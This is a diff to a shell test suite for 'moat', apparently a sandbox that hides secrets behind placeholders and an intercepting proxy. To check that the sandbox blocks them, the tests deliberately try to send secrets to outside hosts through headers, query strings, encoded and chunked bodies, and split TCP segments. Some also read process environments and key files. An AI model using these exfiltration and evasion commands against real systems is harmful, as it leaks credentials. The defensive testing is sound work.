@@ -73,10 +73,147 @@ SD=$MOAT_RUN_DIR/sandboxes/$SB
 # in: run CMD in the sandbox, as "moat exec" does
 insb() { m exec "$SB" -- sh -c "$1" 2>&1; }
 
-out=$(insb 'echo "key=$API_KEY token=$TOKEN ssl=$SSL_CERT_FILE req=$REQUESTS_CA_BUNDLE"')
-echo "DEBUG: $out"
-out=$(insb 'curl -sS --max-time 5 -H "Authorization: Bearer $API_KEY" https://api.github.com/auth')
-echo "DEBUG curl: $out"
-m logs "$SB" | tail -5
-m inspect "$SB" --json | python3 -c 'import json,sys; print(json.dumps(json.load(sys.stdin)["supervisor"]["proxy"].get("intercept")))'
+# icnt KEY: a counter of the sandbox's interception; icnt_s SECRET KEY: of
+# one secret's
+icnt() { m inspect "$SB" --json | jq -r --arg k "$1" '.supervisor.proxy.intercept[$k] // "absent"'; }
+icnt_s() { m inspect "$SB" --json | jq -r --arg k "$1_$2" '.supervisor.proxy.intercept.secrets[$k] // "absent"'; }
+# curl in the sandbox: body (and headers with -i)
+C='curl -sS --max-time 5'
+
+assert_eq "$(stat -c %a "$SD/ca.key")" 600 "the CA's key is root's alone (0600)"
+assert_eq "$(stat -c %a "$SD/secrets.env")" 600 "the placeholders file is root's alone"
+assert_eq "$(stat -c %a "$SD/ca-bundle.pem")" 644 "the CA bundle is readable"
+assert_eq "$(grep -c 'BEGIN CERTIFICATE' "$SD/ca-bundle.pem")" 2 "the bundle holds the host's store (here the world CA) and moat's CA"
+assert_match "$(openssl x509 -in "$SD/ca.pem" -noout -subject -ext basicConstraints,nameConstraints 2>&1)" "CA:TRUE" "moat's CA is a CA"
+assert_match "$(openssl x509 -in "$SD/ca.pem" -noout -ext nameConstraints 2>&1)" "DNS:api.github.com" "... constrained to the intercepted names"
+assert_eq "$(grep -rlF "$VALUE" "$SD" "$MOAT_RUN_DIR" 2>/dev/null | grep -vc '/api.key$')" 0 "the value is in no file moat wrote"
+
+t_begin "the sandbox's side: placeholders and the CA variables"
+out=$(insb 'echo "$API_KEY $TOKEN"')
+assert_match "$out" "^moat-secret-API_KEY-[0-9a-f]{32} moat-secret-TOKEN-[0-9a-f]{32}$" "each secret's variable holds a recognisable placeholder"
+PH=${out%% *}
+PHT=${out##* }
+for v in SSL_CERT_FILE REQUESTS_CA_BUNDLE CURL_CA_BUNDLE NODE_EXTRA_CA_CERTS GIT_SSL_CAINFO; do
+	assert_eq "$(insb "echo \$$v")" /run/moat/ca-bundle.pem "$v names the bundle"
+done
+assert_eq "$(insb 'grep -c "BEGIN CERTIFICATE" /run/moat/ca-bundle.pem')" 2 "the bundle is readable inside at /run/moat/ca-bundle.pem"
+assert_ne "$(insb "cat $SD/ca.key >/dev/null 2>&1; echo \$?")" 0 "the CA's key is not readable inside"
+assert_eq "$(insb "env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null" | grep -cF "$VALUE")" 0 "the value is not in the command's environment or /proc"
+assert_eq "$(insb "cat $WORLD_DIR/api.key 2>&1" | grep -cF "$VALUE")" 0 "nor readable from its file"
+
+t_begin "the secret's host receives the real value"
+assert_eq "$(insb "$C -H \"Authorization: Bearer \$API_KEY\" https://api.github.com/auth")" "authorised via bearer" "curl: Bearer header"
+assert_eq "$(insb "$C -H \"X-Api-Key: \$API_KEY\" https://api.github.com/auth")" "authorised via header" "curl: another header"
+assert_eq "$(insb "$C -u \"me:\$API_KEY\" https://api.github.com/auth")" "authorised via basic" "curl: Basic credentials (decoded, replaced, encoded)"
+assert_eq "$(insb "$C \"https://api.github.com/auth?key=\$API_KEY\"")" "authorised via query" "curl: query string"
+assert_eq "$(insb "$C --data \"key=\$API_KEY\" https://api.github.com/auth")" "authorised via body" "curl: body (Content-Length)"
+assert_eq "$(insb "printf '{\"k\":\"%s\"}' \"\$API_KEY\" | $C -H 'Transfer-Encoding: chunked' --data-binary @- https://api.github.com/auth")" "authorised via body" "curl: chunked body"
+assert_eq "$(insb "python3 -c 'import os,urllib.request as u; r=u.Request(\"https://api.github.com/auth\", headers={\"Authorization\": \"Bearer \"+os.environ[\"API_KEY\"]}); print(u.urlopen(r, timeout=5).read().decode().strip())'")" "authorised via bearer" "Python urllib (trusts \$SSL_CERT_FILE)"
+assert_eq "$(insb "python3 -c 'import os,requests; print(requests.get(\"https://api.github.com/auth\", headers={\"X-Api-Key\": os.environ[\"API_KEY\"]}, timeout=5).text.strip())'")" "authorised via header" "Python requests (trusts \$REQUESTS_CA_BUNDLE)"
+out=$(insb "printf 'GET /auth HTTP/1.1\r\nHost: api.github.com\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n' \"\$API_KEY\" | timeout 5 openssl s_client -quiet -verify_return_error -CAfile \"\$SSL_CERT_FILE\" -servername api.github.com -connect api.github.com:443 2>/dev/null")
+assert_match "$out" "authorised via bearer" "openssl s_client, verifying moat's leaf"
+assert_eq "$(insb "$C https://www.example.com/auth")" "authorised via bearer" "set: the header is added to a request without one"
+assert_eq "$(insb "$C -H 'Authorization: Bearer forged' https://www.example.com/auth")" "authorised via bearer" "set: and replaces the client's"
+assert_eq "$(icnt_s API_KEY injected_total)" 9 "nine requests got API_KEY (counted)"
+assert_eq "$(icnt_s TOKEN injected_total)" 2 "two got TOKEN"
+N=2000000
+want=$(in_host curl -sS --max-time 10 --cacert "$WORLD_CA" --resolve api.github.com:443:140.82.112.3 "https://api.github.com/bytes/$N" | sha256sum)
+assert_eq "$(insb "$C --max-time 10 https://api.github.com/bytes/$N | sha256sum")" "$want" "a 2 MB response through the interception is byte-exact"
+
+t_begin "nothing the sandbox sees holds the value"
+all=$(insb "$C -i -H \"Authorization: Bearer \$API_KEY\" https://api.github.com/auth; $C -i \"https://api.github.com/auth?key=\$API_KEY\"; $C -i https://www.example.com/auth -v 2>&1")
+assert_eq "$(grep -cF "$VALUE" <<<"$all")" 0 "responses (headers included, curl -v)"
+assert_eq "$(m logs "$SB" 2>&1 | grep -cF "$VALUE")" 0 "moat logs"
+assert_eq "$(m inspect "$SB" --json | grep -cF "$VALUE")" 0 "moat inspect"
+
+t_begin "every route of a placeholder to another host is refused"
+# leak N CMD: the request carries the placeholder to a host not its own
+leaks=0
+leak() {
+	local what=$1 cmd=$2 out
+	out=$(insb "$cmd")
+	leaks=$((leaks + 1))
+	assert_match "$out" "X-Moat-Denied: secret-leak" "$what: 403, X-Moat-Denied: secret-leak"
+}
+leak "header" "$C -i -H \"X-Api-Key: \$API_KEY\" https://example.com/leak1"
+leak "Bearer" "$C -i -H \"Authorization: Bearer \$API_KEY\" https://example.com/leak2"
+leak "Basic credentials" "$C -i -u \"me:\$API_KEY\" https://example.com/leak3"
+leak "query" "$C -i \"https://example.com/leak4?k=\$API_KEY\""
+leak "percent-encoded query" "$C -i \"https://example.com/leak5?k=\$(echo \$API_KEY | sed 's/-/%2D/g')\""
+leak "body" "$C -i --data \"k=\$API_KEY\" https://example.com/leak6"
+leak "chunked body" "printf 'xx%s' \"\$API_KEY\" | $C -i -H 'Transfer-Encoding: chunked' --data-binary @- https://example.com/leak7"
+leak "another secret's host" "$C -i -H \"X-Api-Key: \$API_KEY\" https://www.example.com/leak8"
+leak "TOKEN to API_KEY's host" "$C -i -H \"X-T: \$TOKEN\" https://api.github.com/leak9"
+leak "plain HTTP" "$C -i -H \"X-Api-Key: \$API_KEY\" http://example.com/leak10"
+# split across TCP segments: the request written a few bytes at a time
+out=$(insb "python3 - <<'EOF'
+import os, socket, ssl, time
+ctx = ssl.create_default_context()
+s = ctx.wrap_socket(socket.create_connection(('example.com', 443), timeout=5), server_hostname='example.com')
+body = 'x' * 14 + os.environ['API_KEY']
+req = ('POST /leak11 HTTP/1.1\r\nHost: example.com\r\nContent-Length: %d\r\n\r\n' % len(body) + body).encode()
+for i in range(0, len(req), 5):
+    s.send(req[i:i + 5])
+    time.sleep(0.002)
+print(s.recv(4096).decode(errors='replace'))
+EOF")
+leaks=$((leaks + 1))
+assert_match "$out" "X-Moat-Denied: secret-leak" "split across TLS records and TCP segments: refused"
+out=$(insb "python3 -c 'import os,requests; r=requests.get(\"https://example.com/leak12\", headers={\"X-Api-Key\": os.environ[\"API_KEY\"]}, timeout=5); print(r.status_code, r.headers.get(\"X-Moat-Denied\"))'")
+leaks=$((leaks + 1))
+assert_eq "$out" "403 secret-leak" "Python requests: 403 secret-leak"
+assert_eq "$(grep -c 'placeholder arrived' "$WORLD_DIR/srv-inet.log")" 0 "no placeholder reached a server"
+# a streamed body's bytes before the placeholder may have gone (the
+# connection to the server is then reset): every other request never left
+assert_eq "$(grep '/leak' "$WORLD_DIR/srv-inet.log" | grep -vc '/leak11')" 0 "no other refused request reached a server"
+assert_eq "$(icnt leaks_refused_total)" "$leaks" "each refusal counted ($leaks)"
+assert_eq "$(icnt_s TOKEN leaks_refused_total)" 1 "... by secret"
+assert_eq "$(nlogs "$SB" '.reason == "secret-leak" and .secret == "API_KEY"')" "$((leaks - 1))" "each logged with the secret's name"
+assert_eq "$(m logs "$SB" 2>&1 | grep -cF "$PH")" 0 "... and neither the placeholder nor the value"
+# the same probes where they are allowed
+assert_eq "$(insb "$C -H \"X-Api-Key: \$API_KEY\" https://api.github.com/auth")" "authorised via header" "the same header to the secret's host is allowed"
+assert_match "$(insb "$C https://example.com/fine")" "path: /fine" "a request without a placeholder to the intercepted host passes"
+
+t_begin "bad upstream certificates"
+out=$(insb "$C -i https://evilgithub.com/")
+assert_match "$out" "X-Moat-Denied: upstream-certificate" "a certificate that does not cover the name: 403 upstream-certificate"
+assert_eq "$(icnt upstream_verify_failed_total)" 1 "... counted"
+assert_eq "$(nlogs "$SB" '.reason == "upstream-certificate" and (.why | test("mismatch"))')" 1 "... logged with the reason"
+openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout "$WORLD_DIR/other.key" \
+	-out "$WORLD_DIR/other.pem" -days 1 -subj "/CN=not the world CA" >/dev/null 2>&1
+if out=$(in_host env MOAT_TEST_TOKEN="$VALUE" MOAT_UPSTREAM_CA="$WORLD_DIR/other.pem" "$MOAT" create "sec2-$S" --policy "$WORLD_DIR/sec.yaml" 2>&1); then
+	out=$(m exec "sec2-$S" -- sh -c "$C -i -H \"Authorization: Bearer \$API_KEY\" https://api.github.com/auth" 2>&1)
+	assert_match "$out" "X-Moat-Denied: upstream-certificate" "a server whose CA the host does not trust: refused"
+	assert_no_match "$out" "authorised" "... and the secret never went to it"
+	m rm -f "sec2-$S" >/dev/null 2>&1
+else
+	not_ok "create a second sandbox" "$out"
+fi
+
+t_begin "a name without interception keeps the SNI-only path"
+out=$(insb "echo | timeout 5 openssl s_client -servername raw.githubusercontent.com -connect raw.githubusercontent.com:443 2>/dev/null | openssl x509 -noout -fingerprint -sha256")
+assert_eq "$out" "$(openssl x509 -in "$WORLD_DIR/server.pem" -noout -fingerprint -sha256)" "the client gets the server's own certificate"
+want=$(in_host curl -sS --max-time 10 --cacert "$WORLD_CA" --resolve raw.githubusercontent.com:443:151.101.1.1 "https://raw.githubusercontent.com/bytes/$N" | sha256sum)
+assert_eq "$(insb "$C --max-time 10 https://raw.githubusercontent.com/bytes/$N | sha256sum")" "$want" "... and the bytes, untouched"
+before=$(icnt connections_total)
+insb "$C -H \"X: \$API_KEY\" https://raw.githubusercontent.com/ >/dev/null"
+assert_eq "$(icnt connections_total)" "$before" "... not intercepted"
+
+t_begin "a client that does not trust the sandbox's CA"
+# the bundle's first certificate: the world CA alone
+out=$(insb "sed '/END CERTIFICATE/q' \$SSL_CERT_FILE >/tmp/w.pem; $C --cacert /tmp/w.pem https://api.github.com/auth 2>&1")
+assert_no_match "$out" "authorised" "its handshake fails: moat's leaf is not the world's"
+assert_ne "$(icnt client_tls_failed_total)" 0 "... counted"
+
+t_begin "moat run: the caller's variable is not the command's"
+out=$(in_host env MOAT_TEST_TOKEN="$VALUE" MOAT_UPSTREAM_CA="$WORLD_CA" "$MOAT" run -q --policy "$WORLD_DIR/sec.yaml" -- sh -c "env; $C https://www.example.com/auth 2>&1" 2>&1)
+assert_match "$out" "authorised via bearer" "the secret from moat run's environment reaches its host"
+assert_eq "$(grep -cF "$VALUE" <<<"$out")" 0 "the command's environment has only placeholders"
+
+t_begin "metrics"
+out=$(m stats "$SB" --prometheus 2>&1)
+assert_match "$out" "moat_proxy_intercept_secrets_API_KEY_injected_total" "Prometheus: injections per secret"
+assert_match "$out" "moat_proxy_intercept_leaks_refused_total" "... leaks refused"
+assert_match "$out" "moat_proxy_secret_leak_total" "... among the proxy's reasons"
+
 t_end
